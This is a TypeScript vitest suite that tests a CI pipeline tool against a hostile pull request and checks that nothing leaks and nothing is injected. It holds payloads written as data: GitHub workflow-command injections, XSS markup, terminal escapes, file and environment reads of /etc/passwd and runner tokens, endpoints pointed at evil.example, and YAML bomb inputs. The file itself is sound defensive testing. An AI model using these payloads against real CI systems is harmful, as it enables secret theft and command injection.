import { mkdirSync, readFileSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { StepResult } from './support/run-step.js';
import { orders, SECRETS, shop, startScene, target, TOKEN } from './support/scene.js';
import type { Scene } from './support/scene.js';

const PASSWD = readFileSync('/etc/passwd', 'utf8').split('\n')[0]!;

/** Made to become a command, markup, a mention, a reference, a terminal's escape, or to turn the text around. */
const evil = [
  '::set-env name=NODE_OPTIONS::--require=/tmp/x',
  '\n::error title=forged::forged',
  '##[set-env name=LD_PRELOAD;]/tmp/x.so',
  '\r\n::add-mask::a',
  '::stop-commands::x',
  '</code></summary><script>alert(1)</script><img src=x onerror=alert(1)>',
  '`````\n# forged heading\n@octocat @acme/admins fixes #1 GH-2',
  '[click](https://evil.example) www.evil.example https://evil.example',
  '|x|\n\n<details open>',
  '--> <b>',
  '\u001b[2J\u001b]8;;https://evil.example\u0007link\u001b]8;;\u0007',
  '\u202egnp.exe :white_check_mark:',
].join(' ');

const quoted = (text: string): string => JSON.stringify(text);

describe('a hostile pull request', { timeout: 120_000 }, () => {
  let scene: Scene;
  beforeAll(async () => {
    scene = await startScene();
    mkdirSync(join(scene.workspace, '.git'), { recursive: true });
    writeFileSync(join(scene.workspace, '.git', 'token'), 'token-that-checkout-left');
    scene.commit({ 'pipelines/target.yaml': target('prod'), 'pipelines/shop.yaml': shop() });
    expect((await scene.push()).code).toBe(0);
  }, 120_000);
  afterAll(() => scene.stop());

  /** Plans the files, and sees that nothing leaked and nothing was injected. */
  async function plan(files: Record<string, string>, options: Parameters<Scene['pull']>[0] = {}): Promise<StepResult & { readonly comment: string }> {
    scene.commit(files);
    const number = 100 + scene.github.requests.length;
    const result = await scene.pull({ number, ...options });
    const comment = scene.github.comments.find((one) => one.number === number)?.body ?? '';
    for (const secret of [...Object.values(SECRETS), TOKEN, PASSWD, 'runtime-token-of-the-runner', 'token-that-checkout-left']) {
      expect(result.everything).not.toContain(secret);
      expect(comment).not.toContain(secret);
    }
    expect(result.commands.every(({ name }) => ['error', 'warning', 'notice'].includes(name))).toBe(true);
    expect(result.commands.filter(({ properties }) => properties['title'] === 'forged')).toEqual([]);
    expect(result.log).not.toMatch(/[\u001b\u202e]/);
    for (const page of [comment, result.summary]) expectNoMarkup(page);
    expect(result.durationMs).toBeLessThan(20_000);
    return { ...result, comment };
  }

  it.each([
    { name: 'a file of the machine', password: '${file:/etc/passwd}', code: 'CDC1307' },
    { name: 'a file by a way up', password: '${file:../../../../../etc/passwd}', code: 'CDC1307' },
    { name: 'the environment as a file', password: '${file:/proc/self/environ}', code: 'CDC1307' },
    { name: 'what the checkout left', password: '${file:.git/token}', code: 'CDC1307' },
    { name: 'the token of the workflow', password: '${env:GITHUB_TOKEN}', code: 'CDC1309' },
    { name: 'the token of the action', password: '${env:INPUT_TOKEN}', code: 'CDC1309' },
    { name: 'the token of the runner', password: '${env:ACTIONS_RUNTIME_TOKEN}', code: 'CDC1309' },
    { name: 'the key of the account', password: '${env:CONFLUENT_CLOUD_API_SECRET}', code: 'CDC1309' },
  ])('asks for $name as the password of its own database', async ({ password, code }) => {
    const result = await plan({ 'pipelines/shop.yaml': shop({ password, host: 'evil.example' }) });
    expect(result.code).toBe(65);
    expect(result.commands[0]).toMatchObject({ name: 'error', properties: { file: 'pipelines/shop.yaml', line: '7', title: expect.stringContaining(code) } });
    expect(result.comment).toContain(code);
  });

  it('asks for them in a fork', async () => {
    scene.commit({ 'pipelines/shop.yaml': shop({ password: '${env:GITHUB_TOKEN}' }) });
    const { code, summary } = await scene.pull({ fork: true });
    expect(code).toBe(65);
    expect(summary).toContain('CDC1309');
  });

  it.each(['kafka', 'schemaRegistry', 'flink'])('points the %s endpoint elsewhere', async (plane) => {
    const before = scene.simulator.journal.timeline().length;
    const result = await plan({ 'pipelines/shop.yaml': shop(), 'pipelines/target.yaml': target('prod', `  endpoints: { ${plane}: "https://evil.example" }\n`) });
    expect(result.code).toBe(65);
    expect(result.commands[0]).toMatchObject({ name: 'error', properties: { file: 'pipelines/target.yaml', line: '9' } });
    expect(scene.simulator.journal.timeline()).toHaveLength(before);
  });

  it.each([
    { name: 'a table', text: shop({ tables: [`{ from: ${quoted(`public.${evil}`)}, to: orders, key: [id], columns: { id: INT } }`] }) },
    { name: 'the name of a pipeline', text: shop({ name: quoted(evil) }) },
    { name: 'a key that nobody knows', text: `${shop()}  ${quoted(evil)}: ${quoted(evil)}\n` },
    { name: 'a column', text: shop({ tables: [`{ from: public.orders, to: orders, key: [id], columns: { id: INT, ${quoted(evil)}: STRING } }`] }) },
    { name: 'a condition', text: shop({ tables: [orders.replace(' }', `, where: ${quoted(`\`note\` <> '${evil.replaceAll("'", '')}'`)} }`)] }) },
    { name: 'a host', text: shop({ host: evil.replaceAll('"', '').replaceAll('\n', '\\n').replaceAll('\r', '\\r').replaceAll('\u001b', '\\e').replaceAll('\u0007', '\\a') }) },
    { name: 'the text of a file that is no YAML', text: `${evil}\n\t- : [` },
  ])('hides commands and markup in $name', async ({ text }) => {
    const { code } = await plan({ 'pipelines/target.yaml': target('prod'), 'pipelines/shop.yaml': text });
    expect([0, 65]).toContain(code);
  });

  it('in the name of a file', async () => {
    const { code } = await plan({ 'pipelines/shop.yaml': shop(), 'pipelines/::error title=forged::@octocat <img src=x>.yaml': 'x: [' });
    expect(code).toBe(65);
    await plan({ 'pipelines/::error title=forged::@octocat <img src=x>.yaml': `# nothing\n` });
  });

  it('makes the connector fail with a text of its own', async () => {
    scene.simulator.control.failConnector('shop', `ERROR: relation ${evil} does not exist\n::error title=forged::x\n${evil}`);
    const { code, comment, summary } = await plan({ 'pipelines/shop.yaml': shop() });
    expect(code).toBe(0);
    // The first line of it; the rest is for logs.
    expect(comment).toContain('is FAILED: ERROR: relation');
    expect(summary).toContain('is FAILED: ERROR: relation');
  });

  it.each([
    { name: '5 MB', text: (): string => `${shop()}${'# padding\n'.repeat(500_000)}` },
    { name: '0.9 MB of deep nesting', text: (): string => `${shop()}  x: ${'['.repeat(450_000)}` },
    { name: 'aliases that expand to billions', text: (): string => `a: &a [x,x,x,x,x,x,x,x,x]\n${'bcdefghi'.split('').map((name, at) => `${name}: &${name} [${Array(9).fill(`*${'abcdefghi'[at]!}`).join(',')}]`).join('\n')}\n` },
    { name: '0.9 MB of one line', text: (): string => `x: "${'y'.repeat(900_000)}` },
  ])('is $name of YAML', async ({ text }) => {
    const { code, durationMs } = await plan({ 'pipelines/shop.yaml': text() });
    expect(code).toBe(65);
    expect(durationMs).toBeLessThan(10_000);
  });
});

/** Outside of code nothing of what a page holds is markup, a mention or a reference that we did not write. */
function expectNoMarkup(page: string): void {
  const outside = page
    .replace(/^(`{3,})diff\n[^]*?\n\1$/gm, '')
    .replace(/(?<![`\\])(`+)(?!`)[^\n]*?(?<!`)\1(?!`)/g, '')
    .replace(/<code>[^<]*<\/code>/g, '')
    .replace(/\]\(https:\/\/github\.example\/acme\/cdc\/[^\s()]*\)/g, ']');
  expect(outside).not.toMatch(/<(?!\/?(?:details|summary|sub)>|br>|!-- cdc-reconciler)/);
  expect(outside).not.toMatch(/@(?!&#8203;)/);
  expect(outside).not.toMatch(/(?<!&)#(?!&#8203;)\d/);
  expect(outside).not.toMatch(/:\/\/|www\.|:\w+:/);
  // Ours are of the third rank.
  expect(outside).not.toMatch(/^\s*#(?!## )/m);
  expect(page).not.toMatch(/[\u001b\u202e]/);
}
